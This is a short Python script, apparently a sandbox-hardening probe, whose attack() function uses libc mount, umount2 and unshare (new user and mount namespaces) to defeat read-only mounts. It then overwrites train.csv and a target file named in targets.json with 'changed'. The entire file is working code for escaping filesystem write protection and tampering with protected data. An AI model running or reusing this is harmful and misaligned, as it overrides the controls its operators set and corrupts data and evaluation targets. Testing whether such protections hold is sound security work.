"""Make the data writable: remount it, take the mount away, the same again in namespaces of its own; then write."""

import ctypes
import json
import os
from contextlib import suppress
from pathlib import Path

NEW_USER, NEW_NS, REMOUNT, BIND, DETACH = 0x10000000, 0x20000, 32, 4096, 2
libc = ctypes.CDLL(None)


def attack():
    here = os.path.abspath("train.csv").encode()
    for path in (here, os.path.dirname(here)):
        libc.mount(None, path, None, REMOUNT | BIND, None)
    for path in (b"train.csv", json.loads(Path("targets.json").read_text())["target"]):
        with suppress(OSError):
            Path(os.fsdecode(path)).write_text("changed")
    libc.umount2(here, DETACH)


attack()
if os.fork() == 0:
    libc.unshare(NEW_USER | NEW_NS)
    attack()
    os._exit(0)
os.wait()
